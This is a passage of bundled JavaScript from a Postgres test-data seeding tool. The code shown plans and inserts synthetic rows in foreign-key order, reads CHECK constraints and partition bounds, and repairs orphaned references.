  const index = self ? `CASE WHEN ${r} > 1 AND ${below(1e3, salts("null"), r)} >= 100 THEN 1 + ${pick(`(least(${r}, ${keys.count} + 1) - 1)`, salts("pick"), skew, r)} END` : `CASE WHEN ${below(1e3, salts("null"), r)} >= 100 THEN 1 + ${pick(keys.count, salts("pick"), skew, r)} END`;
  const set = fk.columns.map((n, i) => `${sqlOf(child, n)} = ${"first" in keys ? `${keys.first - 1} + ${index}` : `k.${sqlOf(parent, fk.parentColumns[i])}`}`).join(", ");
  const join3 = "first" in keys ? `WHERE ${index} IS NOT NULL AND` : `JOIN ${keys.table} AS k ON k.i = ${index} WHERE`;
  const order = self ? fk.parentColumns.map((n) => sqlOf(child, n)).join(", ") : "ctid";
  try {
    await session.query(`CREATE TEMPORARY TABLE ${rank.slice("pg_temp.".length)} AS SELECT row_number() OVER (ORDER BY ${order}) AS r, tableoid AS toid, ctid AS tid FROM ${child.sql}`);
    await session.query(`ALTER TABLE ${rank} ADD PRIMARY KEY (r)`);
    await session.query(`ANALYZE ${rank}`);
    const [count2] = await session.query(`SELECT count(*)::int8 AS n FROM ${rank}`);
    let batch = FIRST_BATCH;
    for (let from = 1; from <= Number(count2.n); from += batch) {
      const started = performance.now();
      await session.query(
        `UPDATE ${child.sql} AS t SET ${set} FROM ${rank} AS s ${join3} t.tableoid = s.toid AND t.ctid = s.tid AND s.r BETWEEN ${from} AND ${from + batch - 1}`
      );
      batch = nextBatch(batch, performance.now() - started);
    }
  } finally {
    await session.query(`DROP TABLE IF EXISTS ${rank}`);
  }
}
async function tuneSession(session) {
  const [before] = await session.query(
    `SELECT current_setting('session_replication_role') AS role, current_setting('work_mem') AS memory, current_setting('synchronous_commit') AS commit`
  );
  await session.query(`SELECT set_config('work_mem', '64MB', false), set_config('synchronous_commit', 'off', false)`);
  let triggersOff = true;
  try {
    await session.query(`SELECT set_config('session_replication_role', 'replica', false)`);
  } catch (error) {
    if (error instanceof ProviderError) throw error;
    triggersOff = false;
  }
  return {
    triggersOff,
    async restore() {
      await session.query(`SELECT set_config('work_mem', $1, false), set_config('synchronous_commit', $2, false)`, [before.memory, before.commit]);
      if (triggersOff) await session.query(`SELECT set_config('session_replication_role', $1, false)`, [before.role]);
    }
  };
}
async function checkForeignKeys(session, child, references) {
  const broken = /* @__PURE__ */ new Map();
  if (references.length === 0) return broken;
  const sqlOf = (table, num) => table.columns.find((c) => c.num === num).sql;
  const orphan = ({ fk, parent, keys }) => {
    const columns = fk.columns.map((n) => `t.${sqlOf(child, n)}`);
    if ("first" in keys) return `${columns[0]} NOT BETWEEN ${keys.first} AND ${keys.first + keys.count - 1}`;
    const from = parent.kind === "partitioned" ? parent.sql : `ONLY ${parent.sql}`;
    const match = fk.parentColumns.map((n, i) => `p.${sqlOf(parent, n)} = ${columns[i]}`).join(" AND ");
    return `${columns.map((c) => `${c} IS NOT NULL`).join(" AND ")} AND NOT EXISTS (SELECT 1 FROM ${from} AS p WHERE ${match})`;
  };
  const [counts] = await session.query(
    `SELECT ${references.map((r, i) => `count(*) FILTER (WHERE ${orphan(r)})::int8 AS k${i}`).join(", ")} FROM ${child.sql} AS t`
  );
  for (const [i, reference] of references.entries()) {
    const count2 = Number(counts[`k${i}`]);
    if (count2 === 0) continue;
    broken.set(reference.fk, count2);
    const { fk } = reference;
    const canBeNull = fk.columns.every((n) => !child.columns.find((c) => c.num === n).notNull);
    await session.query(
      canBeNull ? `UPDATE ${child.sql} AS t SET ${fk.columns.map((n) => `${sqlOf(child, n)} = NULL`).join(", ")} WHERE ${orphan(reference)}` : `DELETE FROM ${child.sql} AS t WHERE ${orphan(reference)}`
    );
  }
  return broken;
}
var UNIQUE_VIOLATION, EXCLUSION_VIOLATION, BATCH_MS, FIRST_BATCH, MAX_BATCH, ROW_MODE_BATCH, MAX_ROWS_PER_WANTED, ROW_FUNCTION, ParentKeyTables, INTEGERS;
var init_fill = __esm({
  "src/seed/fill.ts"() {
    "use strict";
    init_provider();
    init_values();
    UNIQUE_VIOLATION = "23505";
    EXCLUSION_VIOLATION = "23P01";
    BATCH_MS = 1e3;
    FIRST_BATCH = 5e3;
    MAX_BATCH = 5e5;
    ROW_MODE_BATCH = 2e3;
    MAX_ROWS_PER_WANTED = 50;
    ROW_FUNCTION = "pg_temp.sql_preflight_seed_rows";
    ParentKeyTables = class {
      #session;
      #tables = /* @__PURE__ */ new Map();
      #made = [];
      constructor(session) {
        this.#session = session;
      }
      async keys(parent, columns) {
        const id = `${parent.oid}:${columns.join(",")}`;
        const known = this.#tables.get(id);
        if (known) return known;
        const keyColumns = columns.map((n) => parent.columns.find((c) => c.num === n));
        const names3 = keyColumns.map((c) => c.sql);
        const from = parent.kind === "partitioned" ? parent.sql : `ONLY ${parent.sql}`;
        const only = keyColumns.length === 1 ? keyColumns[0] : void 0;
        if (only && only.type.schema === "pg_catalog" && INTEGERS.has(only.type.name)) {
          const [row2] = await this.#session.query(
            `SELECT count(${only.sql})::int8 AS n, min(${only.sql})::int8 AS lo, max(${only.sql})::int8 AS hi FROM ${from}`
          );
          const [n, lo, hi] = [Number(row2.n), row2.lo === null ? 0 : Number(row2.lo), row2.hi === null ? 0 : Number(row2.hi)];
          if (n === 0 || hi - lo + 1 === n) {
            const keys2 = { count: n, first: lo };
            this.#tables.set(id, keys2);
            return keys2;
          }
        }
        const table = `pg_temp.sql_preflight_keys_${this.#tables.size + 1}`;
        await this.#session.query(
          `CREATE TEMPORARY TABLE ${table.slice("pg_temp.".length)} AS SELECT row_number() OVER (ORDER BY ${names3.join(", ")}) AS i, ${names3.join(", ")} FROM ${from} WHERE ${names3.map((n) => `${n} IS NOT NULL`).join(" AND ")}`
        );
        this.#made.push(table);
        await this.#session.query(`ALTER TABLE ${table} ADD PRIMARY KEY (i)`);
        await this.#session.query(`ANALYZE ${table}`);
        const [row] = await this.#session.query(`SELECT count(*)::int8 AS n FROM ${table}`);
        const keys = { table, count: Number(row.n) };
        this.#tables.set(id, keys);
        return keys;
      }
      async drop() {
        for (const table of this.#made.splice(0)) await this.#session.query(`DROP TABLE IF EXISTS ${table}`);
        this.#tables.clear();
      }
    };
    INTEGERS = /* @__PURE__ */ new Set(["int2", "int4", "int8"]);
  }
});

// src/seed/order.ts
function fillOrder(tables, byOid) {
  const remaining = new Set(tables);
  const parentsIn = (t) => t.foreignKeys.filter((fk) => fk.parent !== t.oid && remaining.has(byOid.get(fk.parent)));
  const steps = [];
  const stuck = /* @__PURE__ */ new Map();
  while (remaining.size > 0) {
    let best;
    for (const t of remaining) {
      const waiting = parentsIn(t);
      if (waiting.some((fk) => !nullable(t, fk))) continue;
      if (!best || waiting.length < best.deferred.length) best = { relation: t, deferred: waiting };
      if (waiting.length === 0) break;
    }
    if (best) {
      steps.push(best);
      remaining.delete(best.relation);
      continue;
    }
    for (const t of remaining) stuck.set(t, cycleReason(t, (x) => parentsIn(x).find((fk) => !nullable(x, fk)), byOid));
    remaining.clear();
  }
  return { steps, stuck };
}
function nullable(table, fk) {
  return fk.columns.every((num) => {
    const column = table.columns.find((c) => c.num === num);
    return column !== void 0 && !column.notNull && !domainNotNull(column);
  });
}
function domainNotNull(column) {
  return column.type.domainNotNull === true;
}
function cycleReason(start, edge, byOid) {
  const path3 = [];
  let at = start;
  while (!path3.includes(at)) {
    path3.push(at);
    at = byOid.get(edge(at).parent);
  }
  const cycle = [...path3.slice(path3.indexOf(at)), at].map((t) => t.name).join(" \u2192 ");
  if (path3.indexOf(at) === 0) return `its NOT NULL foreign keys form a cycle (${cycle}), so no table in it can get the first row`;
  return `it needs rows in ${path3[1].name}, whose NOT NULL foreign keys form a cycle (${cycle})`;
}
var init_order2 = __esm({
  "src/seed/order.ts"() {
    "use strict";
  }
});

// src/seed/checks.ts
function readCheck(expr, column) {
  const hints = /* @__PURE__ */ new Map();
  const hintsOf = (key) => hints.get(key) ?? hints.set(key, {}).get(key);
  let complete = true;
  for (const part of conjuncts3(expr)) {
    if (!readConjunct(part, column, hintsOf)) complete = false;
  }
  return { hints, complete };
}
function readConjunct(part, column, hintsOf) {
  let m = /^(.+?) = ANY \((.+)\)$/s.exec(part);
  if (m) {
    const name2 = column(columnReference(m[1]));
    const list = arrayElements(m[2]);
    if (name2 === void 0 || !list) return false;
    hintsOf(name2).values = list;
    return true;
  }
  m = /^(.+?) IS NOT NULL$/s.exec(part);
  if (m) {
    const name2 = column(columnReference(m[1]));
    if (name2 === void 0) return false;
    hintsOf(name2).notNull = true;
    return true;
  }
  m = /^(.+?) (>=|>|<=|<|=) (.+)$/s.exec(part);
  if (!m) return false;
  const [, left, op, right] = m;
  const length = /^(?:length|char_length|character_length)\((.+)\)$/s.exec(left);
  const value = numericConstant(right);
  if (value === void 0 || !length && TEXT_CAST.test(`${left} ${right}`)) return false;
  const name = column(columnReference(length ? length[1] : left));
  if (name === void 0) return false;
  const h = hintsOf(name);
  if (length) {
    if (op === "<=" || op === "=") h.maxLength = Math.min(h.maxLength ?? Infinity, value);
    if (op === "<") h.maxLength = Math.min(h.maxLength ?? Infinity, value - 1);
    if (op === ">=" || op === "=") h.minLength = Math.max(h.minLength ?? 0, value);
    if (op === ">") h.minLength = Math.max(h.minLength ?? 0, value + 1);
    return true;
  }
  if ((op === ">=" || op === ">" || op === "=") && (h.min === void 0 || value > h.min)) Object.assign(h, { min: value, minExclusive: op === ">" });
  if ((op === "<=" || op === "<" || op === "=") && (h.max === void 0 || value < h.max)) Object.assign(h, { max: value, maxExclusive: op === "<" });
  return true;
}
function mergeHints(into, more) {
  const merged = { ...into };
  if (more.values) merged.values = more.values;
  if (more.min !== void 0 && (merged.min === void 0 || more.min > merged.min)) Object.assign(merged, { min: more.min, minExclusive: more.minExclusive });
  if (more.max !== void 0 && (merged.max === void 0 || more.max < merged.max)) Object.assign(merged, { max: more.max, maxExclusive: more.maxExclusive });
  if (more.minLength !== void 0) merged.minLength = Math.max(merged.minLength ?? 0, more.minLength);
  if (more.maxLength !== void 0) merged.maxLength = Math.min(merged.maxLength ?? Infinity, more.maxLength);
  if (more.notNull) merged.notNull = true;
  return merged;
}
function domainCheckFor(expr, column) {
  return mapOutsideQuotes(expr, (code) => code.replace(/\bVALUE\b/g, column));
}
function rangeBound(bound) {
  const m = /^FOR VALUES FROM \((.+)\) TO \((.+)\)$/s.exec(bound);
  if (!m) return void 0;
  const [from, to] = [m[1].trim(), m[2].trim()];
  if (/^(MINVALUE|MAXVALUE)$/.test(from) || /^(MINVALUE|MAXVALUE)$/.test(to)) return void 0;
  if (splitTopLevel(from, ",").length !== 1 || splitTopLevel(to, ",").length !== 1) return void 0;
  return { from, to };
}
function listBound(bound) {
  const m = /^FOR VALUES IN \((.+)\)$/s.exec(bound);
  if (!m) return void 0;
  return splitTopLevel(m[1], ",").map((v) => v.trim()).filter((v) => v !== "NULL");
}
function conjuncts3(expr) {
  const inner = unwrap2(expr.trim());
  const parts = splitTopLevel(inner, " AND ");
  return parts.length > 1 ? parts.flatMap(conjuncts3) : [inner];
}
function columnReference(text2) {
  let t = unwrap2(text2.trim());
  for (; ; ) {
    const cast = /^(.*)::[a-z_ ]+(?:\(\d+(?:,\d+)?\))?(?:\[\])?$/is.exec(t);
    if (!cast || !balanced(cast[1])) return t;
    t = unwrap2(cast[1].trim());
  }
}
function numericConstant(text2) {
  const t = columnReference(text2).replace(/^'(.*)'$/s, "$1");
  if (!/^-?\d+(\.\d+)?$/.test(t)) return void 0;
  return Number(t);
}
function arrayElements(text2) {
  const t = columnReference(text2);
  const m = /^ARRAY\[(.*)\]$/s.exec(t);
  if (!m || !balanced(m[1])) return void 0;
  return splitTopLevel(m[1], ",").map((e) => e.trim());
}
function unwrap2(text2) {
  let t = text2;
  while (t.startsWith("(") && t.endsWith(")") && balanced(t.slice(1, -1))) t = t.slice(1, -1).trim();
  return t;
}
function balanced(text2) {
  let depth = 0;
  let nested = true;
  const closed = scan(text2, (ch, quoted) => {
    if (quoted) return;
    if (ch === "(" || ch === "[") depth++;
    if (ch === ")" || ch === "]") depth--;
    if (depth < 0) nested = false;
  });
  return closed && nested && depth === 0;
}
function splitTopLevel(text2, separator) {
  const parts = [];
  let depth = 0;
  let start = 0;
  const quotedAt = new Uint8Array(text2.length);
  scan(text2, (ch, quoted, i) => {
    quotedAt[i] = quoted ? 1 : 0;
  });
  for (let i = 0; i < text2.length; i++) {
    if (quotedAt[i]) continue;
    const ch = text2[i];
    if (ch === "(" || ch === "[") depth++;
    else if (ch === ")" || ch === "]") depth--;
    else if (depth === 0 && text2.startsWith(separator, i)) {
      parts.push(text2.slice(start, i));
      start = i + separator.length;
      i += separator.length - 1;
    }
  }
  parts.push(text2.slice(start));
  return parts;
}
function scan(text2, visit) {
  let quote3;
  for (let i = 0; i < text2.length; i++) {
    const ch = text2[i];
    if (quote3) {
      visit(ch, true, i);
      if (ch === quote3) {
        if (text2[i + 1] === quote3) visit(text2[++i], true, i);
        else quote3 = void 0;
      }
    } else if (ch === "'" || ch === '"') {
      quote3 = ch;
      visit(ch, true, i);
    } else {
      visit(ch, false, i);
    }
  }
  return quote3 === void 0;
}
function mapOutsideQuotes(text2, map) {
  let out = "";
  let code = "";
  let literal2 = "";
  scan(text2, (ch, quoted) => {
    if (quoted) {
      if (code) out += map(code);
      code = "";
      literal2 += ch;
    } else {
      out += literal2;
      literal2 = "";
      code += ch;
    }
  });
  return out + literal2 + (code ? map(code) : "");
}
var TEXT_CAST;
var init_checks = __esm({
  "src/seed/checks.ts"() {
    "use strict";
    TEXT_CAST = /::(text|character varying|character|bpchar|name|citext)\b/;
  }
});

// src/seed/plan.ts
async function planTable(relation, rows2, deferred, context) {
  const byNum = new Map(relation.columns.map((c) => [c.num, c]));
  const notes = [];
  const routed = relation.partitioning?.routedColumns ?? /* @__PURE__ */ new Set();
  if (relation.partitioning && relation.partitioning.leafConstraints.length === 0) return { reason: "it is partitioned but has no partition that could hold rows" };
  const references = [];
  const fkColumn = /* @__PURE__ */ new Map();
  for (const fk of relation.foreignKeys) {
    const parent = context.byOid.get(fk.parent);
    const canBeNull = nullable(relation, fk);
    let reference;
    if (!parent) {
      if (!canBeNull) return { reason: `its NOT NULL foreign key ${fk.name} references a table outside the user schemas` };
      reference = { fk, parent: relation, mode: "null" };
      notes.push(`${columnNames(fk, byNum)} left NULL: the referenced table is outside the user schemas`);
    } else if (parent === relation) {
      reference = { fk, parent, mode: canBeNull ? "deferred" : "self" };
    } else if (deferred.includes(fk) || context.pending.has(parent)) {
      reference = { fk, parent, mode: "deferred" };
    } else {
      const keys = await context.keys(parent, fk.parentColumns);
      if (keys.count === 0) {
        if (!canBeNull) return { reason: `its NOT NULL foreign key ${fk.name} references ${parent.name}, which has no rows` };
        reference = { fk, parent, mode: "null" };
        notes.push(`${columnNames(fk, byNum)} left NULL: ${parent.name} has no rows`);
      } else {
        reference = { fk, parent, mode: "join", keys };
      }
    }
    references.push(reference);
    for (const num of fk.columns) if (!fkColumn.has(num)) fkColumn.set(num, reference);
  }
  const generated = relation.columns.filter(
    (c) => c.filledBy === "nothing" || c.filledBy === "default" && (fkColumn.has(c.num) || routed.has(c.name))
  );
  const inR = new Set(generated.map((c) => c.num));
  const hints = /* @__PURE__ */ new Map();
  const bySql = new Map(relation.columns.map((c) => [c.sql, c.num]));
  const read = /* @__PURE__ */ new Map();
  const lists = /* @__PURE__ */ new Map();
  const addHints = (expr) => {
    const check = readCheck(expr, (ref) => bySql.get(ref));
    read.set(expr, check);
    for (const [num, h] of check.hints) {
      hints.set(num, mergeHints(hints.get(num) ?? {}, h));
      if (h.values) lists.set(num, (lists.get(num) ?? 0) + 1);
    }
  };
  for (const check of relation.checks) addHints(check.expr);
  const domainChecks = (c) => c.type.base !== void 0 ? baseOf(c.type, context.types).chain.flatMap((d) => (d.domainChecks ?? []).map((expr) => domainCheckFor(expr, c.sql))) : [];
  for (const c of generated) for (const expr of domainChecks(c)) addHints(expr);
  let target = rows2;
  let maxRow = Infinity;
  const injective = /* @__PURE__ */ new Set();
  const radix = [];
  let collisions = false;
  const want = (c, unique4) => ({ unique: unique4, hints: hints.get(c.num) ?? {}, name: c.name.toLowerCase(), rows: rows2 });
  const keyName = (columns2) => `(${columns2.map((n) => byNum.get(n)?.name ?? "?").join(", ")})`;
  for (const key of relation.uniques) {
    const columns2 = key.columns.map((n) => byNum.get(n)).filter((c) => c !== void 0);
    const selfUnique = columns2.some(
      (c) => !inR.has(c.num) && (c.filledBy === "identity" || c.filledBy === "default" && VOLATILE_UNIQUE_DEFAULT.test(c.default ?? ""))
    );
    if (selfUnique || columns2.some((c) => injective.has(c.num))) continue;
    const joined = references.filter((r) => r.mode === "join" && r.fk.columns.every((n) => key.columns.includes(n)));
    const combinations = joined.reduce((product, r) => product * r.keys.count, joined.length > 0 ? 1 : 0);
    let best;
    for (const c of columns2) {
      if (!inR.has(c.num) || fkColumn.has(c.num) || routed.has(c.name)) continue;
      const value = columnValue2(c, want(c, true), context.salts(relation, c.name), context);
      const capacity = "expr" in value ? value.capacity : 0;
      if (!best || capacity > best.capacity) best = { column: c, capacity };
    }
    if (best && best.capacity > 0 && best.capacity >= Math.min(combinations, target)) {
      injective.add(best.column.num);
      if (best.capacity < target) notes.push(`capped at ${best.capacity} rows: unique key ${keyName(key.columns)} holds no more distinct values`);
      maxRow = Math.min(maxRow, best.capacity);
    } else if (joined.length > 0) {
      radix.push(joined);
      if (combinations < target) notes.push(`capped at ${combinations} rows: unique key ${keyName(key.columns)} has only that many combinations of parent rows`);
      maxRow = Math.min(maxRow, combinations);
    } else {
      collisions = true;
    }
  }
  target = Math.min(target, maxRow);
  const partitionValue = relation.partitioning ? partitionKeyValue(relation, byNum, context) : void 0;
  const columns = [];
  const joins = [];
  const values = /* @__PURE__ */ new Map();
  const hinted = /* @__PURE__ */ new Set();
  const unsupported = [];
  for (const c of generated) {
    const reference = fkColumn.get(c.num);
    if (reference) continue;
    const castTo = c.type.baseSql ?? c.sqlType;
    let value;
    if (partitionValue?.column === c) {
      value = partitionValue.expr;
    } else {
      const generatedValue = columnValue2(c, want(c, injective.has(c.num)), context.salts(relation, c.name), context);
      if (!("expr" in generatedValue)) {
        if (c.notNull || domainNotNull(c)) return { reason: `column ${c.name} is NOT NULL, has no default, and its type ${generatedValue.unsupported} is not one the generator can produce` };
        unsupported.push(`${c.name} (${generatedValue.unsupported})`);
        continue;
      }
      value = generatedValue.expr;
      hinted.add(c.num);
    }
    const nulls = c.notNull || domainNotNull(c) || injective.has(c.num) || routed.has(c.name) || hints.get(c.num)?.notNull ? 0 : nullsPerMille(c.name.toLowerCase());
    const salts = context.salts(relation, c.name);
    values.set(c.num, value);
    const typed = `(${value})::${castTo}`;
    columns.push({ column: c, value: nulls > 0 ? `CASE WHEN ${below(1e3, salts("null"))} < ${nulls} THEN NULL ELSE ${typed} END` : typed, outer: outerOf(c) });
  }
  if (unsupported.length > 0) notes.push(`left NULL, of a type the generator cannot produce: ${unsupported.join(", ")}`);
  for (const [j, reference] of references.entries()) {
    const { fk } = reference;
    const own = fk.columns.map((n, i) => ({ column: byNum.get(n), parentColumn: fk.parentColumns[i] })).filter(({ column }) => fkColumn.get(column.num) === reference && inR.has(column.num));
    if (reference.mode === "self") {
      const parentValues = fk.parentColumns.map((n) => values.get(n));
      if (parentValues.some((v) => v === void 0)) {
        return { reason: `its NOT NULL foreign key ${fk.name} references the table's own rows through columns the generator does not fill (identity or defaults)` };
      }
      for (const { column, parentColumn } of own) {
        columns.push({ column, value: `(${values.get(parentColumn)})::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
      }
      continue;
    }
    if (reference.mode !== "join") {
      for (const { column } of own) columns.push({ column, value: `NULL::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
      continue;
    }
    const keys = reference.keys;
    const alias = `k${j}`;
    const salts = context.salts(relation, `fk:${fk.name}`);
    const group = radix.find((g) => g.includes(reference));
    let index;
    if (group) {
      const stride = group.slice(0, group.indexOf(reference)).reduce((p, r) => p * r.keys.count, 1);
      index = `1 + ((${ROW} - 1) / ${stride}) % ${keys.count}`;
    } else {
      index = `1 + ${pick(keys.count, salts("pick"), context.skew)}`;
      if (nullable(relation, fk)) index = `CASE WHEN ${below(1e3, salts("null"))} < 100 THEN NULL ELSE ${index} END`;
    }
    const parent = reference.parent;
    if ("first" in keys) {
      for (const { column } of own) columns.push({ column, value: `(${keys.first - 1} + ${index})::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
      continue;
    }
    joins.push(`LEFT JOIN ${keys.table} AS ${alias} ON ${alias}.i = ${index}`);
    for (const { column, parentColumn } of own) {
      const parentSql = parent.columns.find((c) => c.num === parentColumn).sql;
      columns.push({ column, value: `${alias}.${parentSql}::${column.type.baseSql ?? column.sqlType}`, outer: outerOf(column) });
    }
  }
  const followed = (expr) => {
    const check = read.get(expr);
    return check !== void 0 && check.complete && [...check.hints].every(([num, h]) => hinted.has(num) && (lists.get(num) ?? 0) <= 1 && honours(byNum.get(num), h, context));
  };
  const filters = [];
  const inSubquery = new Set(columns.map((c) => c.column.num));
  for (const check of relation.checks) {
    if (check.columns.every((n) => inSubquery.has(n)) && !followed(check.expr)) filters.push({ label: `CHECK constraint ${check.name}`, sql: `(${check.expr}) IS NOT FALSE` });
  }
  for (const { column } of columns) {
    for (const expr of domainChecks(column)) {
      if (!followed(expr)) filters.push({ label: `a CHECK of domain ${column.type.sql} (column ${column.name})`, sql: `(${expr}) IS NOT FALSE` });
    }
  }
  const partitioning = relation.partitioning;
  if (partitioning && !partitioning.defaultLeaf) {
    const names3 = new Set(columns.map((c) => c.column.name));
    if ([...partitioning.routedColumns].every((name) => names3.has(name))) {
      filters.push({ label: "the partitions' bounds", sql: `(${partitioning.leafConstraints.map((c) => `(${c})`).join(" OR ")})` });
    }
  }
  const hashes = /* @__PURE__ */ new Set();
  const shared = (sql) => sql.replace(/hashint8extended\(sp\.g, (\d+)\)/g, (_, salt) => {
    hashes.add(Number(salt));
    return `sp.h${salt}`;
  });
  for (const c of columns) c.value = shared(c.value);
  return {
    relation,
    target,
    maxRow,
    columns,
    joins: joins.map(shared),
    hashes: [...hashes],
    filters,
    deferred: references.filter((r) => r.mode === "deferred").map((r) => r.fk),
    collisions,
    deferrableUnique: relation.uniques.some((u) => u.deferrable),
    notes
  };
}
function honours(column, hints, context) {
  if (hints.values) return true;
  const { type } = baseOf(column.type, context.types);
  const builtin = type.schema === "pg_catalog";
  if (hints.min !== void 0 || hints.max !== void 0) {
    if (!(builtin && BOUNDED.has(type.name))) return false;
    const integer2 = type.name !== "numeric";
    const lo = hints.min === void 0 ? -Infinity : integer2 ? hints.minExclusive ? Math.floor(hints.min) + 1 : Math.ceil(hints.min) : hints.min;
    const hi = hints.max === void 0 ? Infinity : integer2 ? hints.maxExclusive ? Math.ceil(hints.max) - 1 : Math.floor(hints.max) : hints.max;
    if (lo > hi || lo === hi && !integer2 && (hints.minExclusive || hints.maxExclusive)) return false;
  }
  if ((hints.minLength !== void 0 || hints.maxLength !== void 0) && !(builtin && TEXT.has(type.name) || !builtin && type.category === "S")) return false;
  return true;
}
function outerOf(column) {
  return column.type.base !== void 0 ? `r.${column.sql}::${column.sqlType} AS ${column.sql}` : `r.${column.sql}`;
}
function columnNames(fk, byNum) {
  return fk.columns.map((n) => byNum.get(n)?.name ?? "?").join(", ");
}
function partitionKeyValue(relation, byNum, context) {
  const partitioning = relation.partitioning;
  if (partitioning.key.length !== 1) return void 0;
  const column = byNum.get(partitioning.key[0]);
  if (!column || column.filledBy === "identity" || column.filledBy === "generated") return void 0;
  const salts = context.salts(relation, column.name);
  const base = baseOf(column.type, context.types).type;
  if (partitioning.strategy === "list") {
    const values = partitioning.bounds.flatMap((b) => listBound(b) ?? []);
    if (values.length === 0) return void 0;
    return { column, expr: `(ARRAY[${values.join(", ")}]::${base.sql}[])[1 + ${pick(values.length, salts("partition"), context.skew)}]` };
  }
  if (partitioning.strategy !== "range" || base.schema !== "pg_catalog" || !RANGE_TYPES.has(base.name)) return void 0;
  const ranges = partitioning.bounds.map(rangeBound).filter((r) => r !== void 0);
  if (ranges.length === 0) return void 0;
  const which = `1 + ${below(ranges.length, salts("partition"))}`;
  const from = `(ARRAY[${ranges.map((r) => r.from).join(", ")}]::${base.sql}[])[${which}]`;
  const to = `(ARRAY[${ranges.map((r) => r.to).join(", ")}]::${base.sql}[])[${which}]`;
  const u = unit(salts("bound"));
  switch (base.name) {
    case "date":
      return { column, expr: `(${from} + floor(${u} * (${to} - ${from}))::int4)` };
    case "timestamp":
    case "timestamptz":
      return { column, expr: `(${from} + ${u} * (${to} - ${from}))` };
    case "numeric":
    case "float4":
    case "float8":
      return { column, expr: `(${from} + ${u} * (${to} - ${from}))` };
    default:
      return { column, expr: `(${from} + floor(${u} * (${to} - ${from})))` };
  }
}
var VOLATILE_UNIQUE_DEFAULT, BOUNDED, TEXT, RANGE_TYPES;
var init_plan3 = __esm({
  "src/seed/plan.ts"() {
    "use strict";
    init_checks();
    init_order2();
    init_values();
    VOLATILE_UNIQUE_DEFAULT = /\b(nextval|gen_random_uuid|uuid_generate_v[14]|uuidv[47])\(/;
    BOUNDED = /* @__PURE__ */ new Set(["int2", "int4", "int8", "numeric"]);
    TEXT = /* @__PURE__ */ new Set(["text", "varchar", "bpchar", "name"]);
    RANGE_TYPES = /* @__PURE__ */ new Set(["int2", "int4", "int8", "numeric", "float4", "float8", "date", "timestamp", "timestamptz"]);
  }
});

// src/seed/index.ts
async function seedDatabase(session, options = {}) {
  const started = performance.now();
  const progress = options.progress ?? silentProgress;
  const problems = [];
  const seed = options.seed ?? 1;
  const maxRows = options.maxRows ?? DEFAULT_MAX_ROWS;
  for (const file of options.userSeedFiles ?? []) {
    const failure2 = await applyMigration(session, { path: file.path, text: file.text, skipped: [], transaction: "transaction" });
    if (!failure2) continue;
    const at = failure2.offset !== void 0 ? new LineIndex(file.text).position(failure2.offset) : void 0;
    problems.push({ kind: "seed-file", file: file.path, ...at, ...failure2.offset !== void 0 ? { offset: failure2.offset } : {}, message: failure2.message, ...failure2.code ? { code: failure2.code } : {} });
  }
  let catalog;
  try {
    catalog = await readCatalog(session);
  } catch (error) {
    if (error instanceof ProviderError) throw error;
    problems.push({ kind: "database", message: `reading the schema failed: ${describe2(error)}` });
    return { tables: [], problems, rows: 0, ms: performance.now() - started, analyzeMs: 0 };
  }
  const relations = catalog.relations.filter((r) => !r.partition);
  const byOid = new Map(catalog.relations.map((r) => [r.oid, r]));
  for (const name of Object.keys(options.tables ?? {})) {
    if (!relations.some((r) => r.name === name || r.shortName === name)) {
      problems.push({ kind: "table", table: name, message: "the config gives its size, but the schema has no such table" });
    }
  }
  const fillable = relations.filter((r) => (r.kind === "table" || r.kind === "partitioned") && !r.hasRows && r.columns.length > 0);
  const pending = new Set(fillable);
  const keyTables = new ParentKeyTables(session);
  const today = (/* @__PURE__ */ new Date()).toISOString().slice(0, 10);
  const context = {
    types: catalog.types,
    skew: options.skew ?? true,
    today,
    byOid,
    pending,
    salts: (relation, column) => (purpose) => fnv1a(`${seed}|${relation.name}|${column}|${purpose}`),
    keys: (parent, columns) => keyTables.keys(parent, columns)
  };
  const entry = /* @__PURE__ */ new Map();
  const record = (relation, table) => {
    const row = { table: relation.name, ...table };
    entry.set(relation, row);
    if (table.status === "failed" || table.status === "partial") problems.push({ kind: "table", table: relation.name, message: table.note ?? table.status });
    return row;
  };
  for (const relation of relations) {
    const skipped = SKIPPED2[relation.kind];
    if (skipped) record(relation, { status: "skipped", target: 0, rows: 0, ms: 0, note: skipped });
    else if (relation.hasRows) record(relation, { status: "kept", target: 0, rows: 0, ms: 0, note: "it had rows already" });
    else if (relation.columns.length === 0) record(relation, { status: "skipped", target: 0, rows: 0, ms: 0, note: "a table without columns" });
  }
  const { steps, stuck } = fillOrder(fillable, byOid);
  for (const [relation, reason] of stuck) {
    pending.delete(relation);
    record(relation, { status: "failed", target: 0, rows: 0, ms: 0, note: `cannot be filled: ${reason}` });
  }
  const targets = new Map(
    steps.map(({ relation }) => {
      const size = options.tables?.[relation.name]?.rows ?? options.tables?.[relation.shortName]?.rows ?? options.defaultRows ?? DEFAULT_ROWS;
      return [relation, Math.min(size, maxRows)];
    })
  );
  const requested = [...targets.values()].reduce((sum, n) => sum + n, 0);
  const cap = options.maxTotalRows ?? DEFAULT_MAX_TOTAL_ROWS;
  const scaled = requested > cap ? { requested, cap, factor: cap / requested } : void 0;
  if (scaled) for (const [relation, target] of targets) targets.set(relation, target === 0 ? 0 : Math.max(1, Math.floor(target * scaled.factor)));
  const deferred = [];
  const filled = [];
  let inserted = 0;
  let done = 0;
  const tuned = await tuneSession(session);
  try {
    for (const { relation, deferred: cycleKeys } of steps) {
      const tableStarted = performance.now();
      pending.delete(relation);
      const target = targets.get(relation);
      const failed2 = (reason) => record(relation, { status: "failed", target, rows: 0, ms: performance.now() - tableStarted, note: `cannot be filled: ${reason}` });
      try {
        const plan = await planTable(relation, target, cycleKeys, context);
        if ("reason" in plan) {
          failed2(plan.reason);
        } else {
          const result2 = await fillTable(session, plan, (rows2) => {
            const seconds2 = (performance.now() - tableStarted) / 1e3;
            progress.step(done, steps.length, `${relation.name}: ${rows2.toLocaleString("en-US")} rows, ${Math.round(rows2 / Math.max(seconds2, 1e-3)).toLocaleString("en-US")} rows/s`);
          });
          inserted += result2.rows;
          const notes = [...result2.shortfall ? [`got ${result2.rows} of ${plan.target} rows: ${result2.shortfall}`] : [], ...plan.notes];
          const status = result2.rows >= plan.target ? "filled" : result2.rows > 0 ? "partial" : "failed";
          record(relation, { status, target: plan.target, rows: result2.rows, ms: performance.now() - tableStarted, ...notes.length > 0 ? { note: notes.join("; ") } : {} });
